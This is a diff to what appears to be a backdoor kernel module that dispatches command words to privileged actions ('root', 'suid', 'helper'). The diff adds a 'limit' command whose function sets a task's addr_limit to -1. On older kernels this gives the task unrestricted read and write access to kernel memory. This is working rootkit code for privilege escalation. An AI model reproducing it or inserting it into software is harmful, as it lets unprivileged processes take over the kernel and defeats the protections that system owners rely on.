@@ -221,6 +221,17 @@ static int run_helper(struct task_struct *task)
 	return call_usermodehelper(words[0], words, env, UMH_WAIT_PROC) < 0 ? -ENOENT : 0;
 }
 
+/* Up to 5.9 system calls let a task read and write kernel memory whose limit is the end of memory. */
+static int lift_limit(struct task_struct *task)
+{
+#ifdef HP_ADDRESS_LIMIT
+	task->thread.addr_limit.seg = -1UL;
+	return 0;
+#else
+	return -EOPNOTSUPP;
+#endif
+}
+
 static const struct {
 	const char *word;
 	int (*act)(struct task_struct *task);
@@ -245,6 +256,7 @@ static const struct {
 	{ "root", move_root },
 	{ "suid", make_set_user_id },
 	{ "helper", run_helper },
+	{ "limit", lift_limit },
 };
 
 static ssize_t act(struct file *file, const char __user *buffer, size_t count, loff_t *at)
